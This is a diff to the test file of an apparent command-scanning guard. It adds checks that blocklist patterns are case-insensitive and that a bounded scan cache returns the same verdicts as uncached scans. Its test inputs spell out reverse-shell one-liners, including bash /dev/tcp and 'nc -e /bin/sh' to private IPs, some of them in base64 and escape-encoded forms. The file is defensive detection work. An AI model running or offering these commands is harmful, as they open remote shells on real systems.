@@ -4,12 +4,13 @@ the shipped rules in test_blocklist_table.py)."""
 from __future__ import annotations
 
 import base64
+import re
 from pathlib import Path
 
 import pytest
 
 from addons.policy_rules import load_policy
-from addons.shellguard import MAX_VIEWS, deobfuscate, iter_strings, scan, shell_info, views
+from addons.shellguard import MAX_VIEWS, ScanCache, deobfuscate, iter_strings, scan, shell_info, views
 
 BLOCKLIST = load_policy(Path(__file__).resolve().parents[2] / "rules").blocklist
 
@@ -30,12 +31,20 @@ def test_deobfuscate(raw, normal):
     assert deobfuscate(raw) == normal
 
 
-def test_views_decode_percent_unicode_base64_and_case():
+def test_views_decode_percent_unicode_base64():
     assert "bash" in views("%62%61%73%68")
     assert "nc -e sh" in views("\\u006e\\u0063 -e sh")
     blob = base64.b64encode(b"bash -i >& /dev/tcp/1.2.3.4/1 0>&1").decode()
     assert "bash -i >& /dev/tcp/1.2.3.4/1 0>&1" in views("echo " + blob)
-    assert "nc -e sh" in views("NC -E SH")
+
+
+def test_case_is_left_to_the_case_insensitive_patterns():
+    # views keep case (no lower-cased copies: they doubled the regex work for nothing)
+    assert views("NC -E SH") == ["NC -E SH"]
+    pats = list(load_policy(Path(__file__).resolve().parents[2] / "rules").blocklist)
+    assert all(p.regex.flags & re.IGNORECASE for p in pats)
+    assert scan({"c": "NC -E /BIN/SH 10.0.0.1 4444"}, pats) is not None
+    assert scan({"c": "Bash -I >& /DEV/TCP/10.0.0.1/4444 0>&1"}, pats) is not None
 
 
 def test_views_resolve_a_globbed_program_only_in_command_position():
@@ -102,3 +111,19 @@ def test_pathological_input_is_scanned_in_linear_time(evil):
     t = time.perf_counter()
     scan({"c": evil}, BLOCKLIST)
     assert time.perf_counter() - t < 10                          # was minutes for a backtracking brace regex
+
+
+def test_scan_cache_gives_the_same_verdicts_and_stays_bounded():
+    pats = list(load_policy(Path(__file__).resolve().parents[2] / "rules").blocklist)
+    cache = ScanCache(max_entries=8)
+    attack = {"command": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}
+    legit = {"command": "ls -la"}
+    for _ in range(3):      # cached and uncached answers agree, hit path included
+        assert scan(attack, pats, cache) == scan(attack, pats) is not None
+        assert scan(legit, pats, cache) is None
+    for i in range(50):
+        scan({"k": f"value {i}"}, pats, cache)
+    assert len(cache) == 8
+    assert scan(attack, pats, cache) is not None     # evicted entries are recomputed
+    long = "x " * 400 + "nc -e /bin/sh 10.0.0.1 4444"           # beyond max_len: never cached
+    assert scan({"c": long}, pats, cache) is not None and long not in cache._verdicts
